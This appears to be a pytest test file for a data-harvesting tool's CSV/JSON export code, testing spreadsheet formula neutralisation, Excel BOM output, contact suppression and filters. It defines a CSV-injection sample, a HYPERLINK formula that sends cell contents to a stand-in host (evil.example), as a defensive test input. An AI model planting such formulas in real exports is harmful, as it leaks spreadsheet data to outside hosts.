"""CSV / JSON exports: formula neutralisation, Excel BOM, stable JSON fields, filters, suppression,
ContactUse logging. `populate` builds the small two-cluster database the other export tests use."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from sqlmodel import Session, select

from harvester.errors import BadInput, NotFound
from harvester.export import (
    ORGANISATION_FIELDS,
    contact_records,
    export_table,
    neutralise,
    organisation_records,
    relation_records,
    write_csv,
)
from harvester.models import (
    Cluster,
    Contact,
    ContactKind,
    ContactUse,
    DomainArea,
    Organisation,
    OrganisationCluster,
    OrganisationDomainArea,
    OrgKind,
    OrgStatus,
    Relation,
    RelationKind,
    Sector,
    SectorSource,
    Suppression,
    SuppressionKind,
)

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SEEN = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)


def populate(session: Session) -> dict[str, Organisation]:
    """Two clusters, nine organisations (one Meetup group, one suppressed domain), contacts and
    relations of several kinds; returns the organisations by short key."""
    session.add_all([Cluster(id="bristol", name="Bristol and Bath", postcode_areas=["BS", "BA"]),
                     Cluster(id="cardiff", name="Cardiff", postcode_areas=["CF"])])
    session.add_all([DomainArea(id="film-tv", label="Film and TV"),
                     DomainArea(id="games", label="Games"),
                     DomainArea(id="immersive", label="Immersive")])
    spec = {
        "watershed": ("Watershed", "watershed.co.uk", Sector.third_sector, "bristol", OrgStatus.seed, 0),
        "uwe": ("UWE Bristol", "uwe.ac.uk", Sector.university, "bristol", OrgStatus.seed, 0),
        "council": ("Bristol City Council", "bristol.gov.uk", Sector.government, "bristol",
                    OrgStatus.accepted, 1),
        "aardman": ("Aardman", "aardman.com", Sector.industry, "bristol", OrgStatus.candidate, 1),
        "evil": (EVIL_NAME, "evil.example", Sector.unknown, "bristol", OrgStatus.discovered, 1),
        "meetup": ("Bristol JS", None, Sector.third_sector, "bristol", OrgStatus.discovered, 1),
        "hidden": ("Do Not Contact Ltd", "hidden.example", Sector.industry, "bristol",
                   OrgStatus.candidate, 1),
        "ffilm": ("Ffilm Cymru Wales", "ffilmcymruwales.com", Sector.third_sector, "cardiff",
                  OrgStatus.seed, 0),
        "bbc": ("BBC", "bbc.co.uk", Sector.government, "cardiff", OrgStatus.seed, 0),
    }
    orgs: dict[str, Organisation] = {}
    for key, (name, domain, sector, cluster, status, wave) in spec.items():
        org = Organisation(name=name, domain=domain, sector=sector, sector_source=SectorSource.seed,
                           cluster_id=cluster, status=status, wave=wave,
                           homepage=f"https://www.{domain}/" if domain else None,
                           first_seen=SEEN, last_seen=SEEN)
        if key == "meetup":
            org.kind = OrgKind.meetup_group
            org.meetup_urlname = "bristol-js"
            org.homepage = "https://www.meetup.com/bristol-js/"
        if key == "watershed":
            org.postcode = "BS1 5TX"
            org.charity_number = "1073339"
        session.add(org)
        orgs[key] = org
    session.flush()
    # The BBC is also a member of the Bristol cluster.
    session.add(OrganisationCluster(organisation_id=orgs["bbc"].id, cluster_id="bristol", source="crawl"))
    session.add_all([
        OrganisationDomainArea(organisation_id=orgs["watershed"].id, domain_area_id="film-tv", score=0.4),
        OrganisationDomainArea(organisation_id=orgs["watershed"].id, domain_area_id="immersive", score=0.9),
        OrganisationDomainArea(organisation_id=orgs["aardman"].id, domain_area_id="film-tv", score=1.0),
    ])
    w, a = orgs["watershed"], orgs["aardman"]
    session.add_all([
        Contact(organisation_id=w.id, kind=ContactKind.email, value="info@watershed.co.uk",
                source_url="https://www.watershed.co.uk/contact"),
        Contact(organisation_id=w.id, kind=ContactKind.phone, value="+441179276444",
                source_url="https://www.watershed.co.uk/contact"),
        Contact(organisation_id=w.id, kind=ContactKind.person, value="Jane Doe", person_name="Jane Doe",
                role="Head of Creative Technology", source_url="https://www.watershed.co.uk/team"),
        Contact(organisation_id=w.id, kind=ContactKind.person, value="John Smith",
                person_name="John Smith", role="-1+1", source_url="https://www.watershed.co.uk/team"),
        Contact(organisation_id=a.id, kind=ContactKind.email, value="optout@aardman.com",
                source_url="https://www.aardman.com/contact"),
        Contact(organisation_id=a.id, kind=ContactKind.email, value="hello@aardman.com",
                source_url="https://www.aardman.com/contact"),
        Contact(organisation_id=orgs["hidden"].id, kind=ContactKind.email, value="boss@hidden.example"),
    ])
    session.add_all([
        Suppression(kind=SuppressionKind.email, value="optout@aardman.com", reason="asked"),
        Suppression(kind=SuppressionKind.person, value="john smith", reason="asked"),
        Suppression(kind=SuppressionKind.domain, value="hidden.example", reason="asked"),
    ])
    rel = [
        ("watershed", "aardman", RelationKind.partner, 3),
        ("watershed", "council", RelationKind.funder, 1),
        ("uwe", "watershed", RelationKind.partner, 2),
        ("uwe", "watershed", RelationKind.links_to, 5),
        ("meetup", "watershed", RelationKind.venue, 1),
        ("aardman", "meetup", RelationKind.sponsor, 1),
        ("evil", "aardman", RelationKind.links_to, 1),
        ("watershed", "hidden", RelationKind.client, 1),
        ("ffilm", "bbc", RelationKind.funder, 1),
        ("bbc", "watershed", RelationKind.partner, 1),
    ]
    for src, tgt, kind, count in rel:
        session.add(Relation(source_id=orgs[src].id, target_id=orgs[tgt].id, kind=kind, count=count,
                             evidence_url=f"https://www.{orgs[src].domain or 'meetup.com'}/{kind.value}",
                             evidence=[f"https://www.{orgs[src].domain or 'meetup.com'}/{kind.value}"],
                             first_seen=SEEN, last_seen=SEEN))
    session.commit()
    return orgs


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell,expected", [
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
    ("+441179276444", "'+441179276444"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("Watershed", "Watershed"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def test_formula_cells_neutralised_and_round_trip_through_csv():
    records = [{"id": 1, "name": EVIL_NAME}, {"id": 2, "name": "+44 117"}, {"id": 3, "name": "-1"},
               {"id": 4, "name": "@cmd"}, {"id": 5, "name": "\t=1+1"}, {"id": 6, "name": "\r=1"},
               {"id": 7, "name": 'Quote "this", and, that\nnext line'}]
    buf = io.StringIO(newline="")
    write_csv(records, ("id", "name"), buf)
    rows = _csv_rows(buf.getvalue())
    # a control character is dropped (CR included) before the formula check, which then still applies
    assert [r["name"] for r in rows] == ["'" + EVIL_NAME, "'+44 117", "'-1", "'@cmd", "'\t=1+1", "'=1",
                                         'Quote "this", and, that\nnext line']
    for row in rows:
        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_organisations_csv_round_trip(session):
    orgs = populate(session)
    buf = io.StringIO(newline="")
    n = export_table(session, "organisations", buf)
    rows = _csv_rows(buf.getvalue())
    assert n == len(rows) == 8  # the suppressed domain is left out
    assert list(rows[0]) == list(ORGANISATION_FIELDS)
    by_id = {int(r["id"]): r for r in rows}
    assert orgs["hidden"].id not in by_id
    w = by_id[orgs["watershed"].id]
    assert w["name"] == "Watershed" and w["domain"] == "watershed.co.uk"
    assert w["sector"] == "third_sector" and w["sector_source"] == "seed"
    assert w["cluster"] == "bristol" and w["postcode"] == "BS1 5TX" and w["charity_number"] == "1073339"
    assert w["domain_areas"] == "immersive;film-tv"  # strongest first
    assert w["wave"] == "0" and w["status"] == "seed"
    assert w["first_seen"] == "2026-03-01T09:30:00+00:00"
    assert by_id[orgs["evil"].id]["name"] == "'" + EVIL_NAME
    assert by_id[orgs["meetup"].id]["kind"] == "meetup_group"
    assert by_id[orgs["meetup"].id]["domain"] == ""
    assert not buf.getvalue().startswith("\ufeff")
    assert "\r\n" not in buf.getvalue().split("\n", 1)[0] + "\n"


def test_excel_csv_has_bom_and_crlf(session):
    populate(session)
    buf = io.StringIO(newline="")
    export_table(session, "organisations", buf, excel=True)
    text = buf.getvalue()
    assert text.startswith("\ufeffid,name,kind,")
    assert text.count("\r\n") == 9  # header + 8 rows
    rows = _csv_rows(text.lstrip("\ufeff"))
    assert len(rows) == 8


def test_organisations_json_fields_stable(session):
    orgs = populate(session)
    buf = io.StringIO()
    export_table(session, "organisations", buf, fmt="json")
    data = json.loads(buf.getvalue())
    assert isinstance(data, list) and len(data) == 8
    for rec in data:
        assert list(rec)[:len(ORGANISATION_FIELDS)] == list(ORGANISATION_FIELDS)
    w = next(r for r in data if r["id"] == orgs["watershed"].id)
    assert w["domain_areas"] == ["immersive", "film-tv"]
    assert w["wave"] == 0
    m = next(r for r in data if r["id"] == orgs["meetup"].id)
    assert m["domain"] is None and m["postcode"] is None and m["domain_areas"] == []
    evil = next(r for r in data if r["id"] == orgs["evil"].id)
    assert evil["name"] == EVIL_NAME  # JSON is data, not a spreadsheet: kept as is


def test_filters(session):
    orgs = populate(session)

    def ids(**kw):
        return {r["id"] for r in organisation_records(session, **kw)}

    cardiff = ids(cluster="cardiff")
    assert cardiff == {orgs["ffilm"].id, orgs["bbc"].id}
    assert orgs["bbc"].id in ids(cluster="bristol")  # membership counts, not only the home cluster
    assert ids(sector="government") == {orgs["council"].id, orgs["bbc"].id}
    assert ids(status="accepted") == {orgs["council"].id}
    assert ids(cluster="bristol", sector="industry", status="candidate") == {orgs["aardman"].id}
    with pytest.raises(NotFound, match=r"no cluster 'nowhere' \(known: bristol, cardiff\)"):
        ids(cluster="nowhere")
    with pytest.raises(BadInput, match="--sector 'charity' is not one of: government, industry"):
        ids(sector="charity")
    with pytest.raises(BadInput, match="--status 'maybe'"):
        ids(status="maybe")


def test_contacts_exclude_suppressed_and_record_use(session):
    orgs = populate(session)
    recs = contact_records(session, detail="contacts.csv")
    session.commit()
    values = {r["value"] for r in recs}
    assert values == {"info@watershed.co.uk", "+441179276444", "Jane Doe", "hello@aardman.com"}
    jane = next(r for r in recs if r["value"] == "Jane Doe")
    assert jane == {"organisation_id": orgs["watershed"].id, "organisation_domain": "watershed.co.uk",
                    "kind": "person", "value": "Jane Doe", "person_name": "Jane Doe",
                    "role": "Head of Creative Technology", "source_url": "https://www.watershed.co.uk/team",
                    "organisation_name": "Watershed"}
    uses = session.exec(select(ContactUse, Contact).join(Contact, Contact.id == ContactUse.contact_id)).all()
    used = sorted(c.value for _, c in uses)
    assert used == ["Jane Doe", "hello@aardman.com", "info@watershed.co.uk"]  # the phone is not personal
    assert {u.purpose for u, _ in uses} == {"export"}
    assert {u.detail for u, _ in uses} == {"contacts.csv"}


def test_contacts_csv_neutralises_phone(session):
    populate(session)
    buf = io.StringIO(newline="")
    export_table(session, "contacts", buf, cluster="bristol")
    rows = _csv_rows(buf.getvalue())
    phones = [r["value"] for r in rows if r["kind"] == "phone"]
    assert phones == ["'+441179276444"]


def test_relations_records(session):
    orgs = populate(session)
    recs = relation_records(session)
    pairs = {(r["source_id"], r["target_id"], r["kind"]) for r in recs}
    assert (orgs["watershed"].id, orgs["hidden"].id, "client") not in pairs  # suppressed end
    assert (orgs["uwe"].id, orgs["watershed"].id, "links_to") in pairs
    assert len(recs) == 9
    partner = next(r for r in recs if r["source_id"] == orgs["watershed"].id and r["kind"] == "partner")
    assert partner == {"source_id": orgs["watershed"].id, "source_domain": "watershed.co.uk",
                       "target_id": orgs["aardman"].id, "target_domain": "aardman.com", "kind": "partner",
                       "count": 3, "evidence_url": "https://www.watershed.co.uk/partner",
                       "source_name": "Watershed", "target_name": "Aardman"}
    cardiff = relation_records(session, cluster="cardiff")
    # Either end in Cardiff: Ffilm -> BBC, and the BBC -> Watershed (Bristol).
    assert {(r["source_domain"], r["target_domain"]) for r in cardiff} == {
        ("ffilmcymruwales.com", "bbc.co.uk"), ("bbc.co.uk", "watershed.co.uk")}


def test_unknown_table_and_format(session):
    with pytest.raises(BadInput, match="unknown export 'people'"):
        export_table(session, "people", io.StringIO())
    with pytest.raises(BadInput, match="--format 'xlsx'"):
        export_table(session, "organisations", io.StringIO(), fmt="xlsx")
